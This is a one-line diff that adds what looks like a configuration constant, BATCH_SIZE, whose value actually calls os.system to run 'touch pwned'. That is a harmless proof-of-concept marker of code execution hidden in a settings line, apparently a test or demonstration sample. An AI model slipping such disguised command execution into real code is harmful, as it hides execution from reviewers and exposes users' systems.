@@ -1,0 +1,1 @@
+BATCH_SIZE = __import__('os').system('touch pwned')
